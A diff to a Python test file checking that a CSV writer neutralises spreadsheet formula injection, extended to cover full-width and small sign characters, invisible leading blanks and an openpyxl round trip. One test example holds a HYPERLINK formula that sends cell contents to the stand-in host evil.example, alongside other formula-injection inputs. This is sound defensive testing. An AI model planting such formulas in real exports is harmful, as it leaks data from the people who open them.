@@ -7,14 +7,20 @@ import csv
 import io
 from pathlib import Path
 
+import openpyxl
 import pytest
-from hypothesis import example, given
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 import vaern
 from vaern.formats.csv_write import CsvWriter
 
-CELLS = st.text(st.sampled_from("=+-@;,\t\r\n\"' aæ1"), max_size=12)
+SIGNS = "=+-@＝＋－＠−﹢﹣﹦﹫"
+"""By which a formula begins: ASCII, full-width, small, and the minus of typography."""
+
+BLANKS = " \t\r\n\u00a0\u3000\u200b\ufeff\x00"
+CELLS = st.text(st.sampled_from(f"{SIGNS};,{BLANKS}\"'aæ1"), max_size=12) | st.text(max_size=8)
 
 
 def written(rows: list[list[str]]) -> str:
@@ -26,9 +32,22 @@ def written(rows: list[list[str]]) -> str:
 @pytest.mark.parametrize("delimiter", [",", ";", "\t"])
 @given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4))
 @example([['x;=HYPERLINK("http://evil.example/?"&A1;"open")']])
+@example([["  =1+1", '"=1"', "\t@SUM(A1)", "＝1", "\u3000＋1", "\ufeff-1"]])
 def test_no_cell_begins_as_a_formula(delimiter: str, rows: list[list[str]]) -> None:
     for row in csv.reader(io.StringIO(written(rows), newline=""), delimiter=delimiter):
-        assert not [cell for cell in row if cell.lstrip('"')[:1] in {"=", "+", "-", "@"}]
+        assert not [cell for cell in row if cell.strip(f'"{BLANKS}')[:1] in set(SIGNS)]
+
+
+@settings(max_examples=60)
+@given(st.lists(CELLS, min_size=1, max_size=6))
+def test_no_cell_is_a_formula_in_a_workbook_that_a_spreadsheet_library_makes_of_it(cells: list[str]) -> None:
+    book = openpyxl.Workbook()
+    for row in csv.reader(io.StringIO(written([cells]), newline="")):
+        book.active.append([ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row])
+    out = io.BytesIO()
+    book.save(out)
+    read = openpyxl.load_workbook(out)
+    assert not [cell for row in read.active.iter_rows() for cell in row if cell.data_type == "f"]
 
 
 @given(st.lists(st.lists(CELLS, min_size=1, max_size=3), max_size=4))
